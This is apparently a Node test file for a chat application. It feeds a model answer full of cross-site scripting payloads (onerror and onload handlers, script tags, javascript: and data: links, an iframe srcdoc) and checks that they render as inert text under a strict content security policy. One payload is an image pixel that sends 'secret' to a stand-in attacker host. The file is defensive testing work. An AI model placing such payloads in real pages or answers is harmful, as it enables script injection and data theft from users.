// The model's text is data, whatever it contains. `person` fails a test for any dialog, error or CSP violation.
import assert from "node:assert/strict";
import { test } from "node:test";
import { answered, answers, openConversation, person, say, useApp } from "./app.js";

useApp();

const ATTACK = `Look: <img src=x onerror="alert(1)"> <script>alert(2)</script> <svg onload=alert(3)>

[click](javascript:alert(4)) [data](data:text/html,<script>alert(5)</script>) [mine](/api/conversations)

![pixel](https://attacker.invalid/collect?what=secret)

<iframe srcdoc="<script>alert(6)</script>"></iframe>

\`\`\`html
<b onclick="alert(7)">code</b>
\`\`\`

[honest](https://example.org/)`;

test("markup, scripts and addresses in an answer do nothing", async (t) => {
  const { page } = await person(t);
  const elsewhere = [];
  page.on(
    "request",
    (request) => new URL(request.url()).hostname.endsWith("127.0.0.1") || elsewhere.push(request.url()),
  );
  await openConversation(page, "scripted-echo=1-delay=1");
  await say(page, ATTACK);
  await answered(page);
  const answer = answers(page).last();
  await answer.getByText("<img src=x").first().waitFor();
  assert.equal(await answer.locator("img, script, iframe, style, object, form, input").count(), 0);
  const hrefs = await answer
    .locator("a")
    .evaluateAll((links) => links.map((link) => [link.getAttribute("href"), link.target, link.rel]));
  assert.deepEqual(hrefs, [
    ["https://attacker.invalid/collect?what=secret", "_blank", "noopener noreferrer"],
    ["https://example.org/", "_blank", "noopener noreferrer"],
  ]);
  const attributes = await answer.evaluate((root) =>
    [...root.querySelectorAll("*")].flatMap((element) =>
      element.getAttributeNames().filter((name) => name.startsWith("on") || name === "style"),
    ),
  );
  assert.deepEqual(attributes, []);
  assert.deepEqual(elsewhere, []);
});

test("a title is text, too", async (t) => {
  const { page } = await person(t);
  await say(page, '<img src=x onerror="alert(1)">');
  await answered(page);
  assert.equal(await page.locator("aside img, header img").count(), 0);
});

test("the policy forbids making HTML out of text at all", async (t) => {
  const { page } = await person(t, { signedUp: false });
  const policy = (await page.request.get("/")).headers()["content-security-policy"];
  assert.match(policy, /default-src 'none'/);
  assert.match(policy, /require-trusted-types-for 'script'/);
  assert.doesNotMatch(policy, /unsafe/);
});
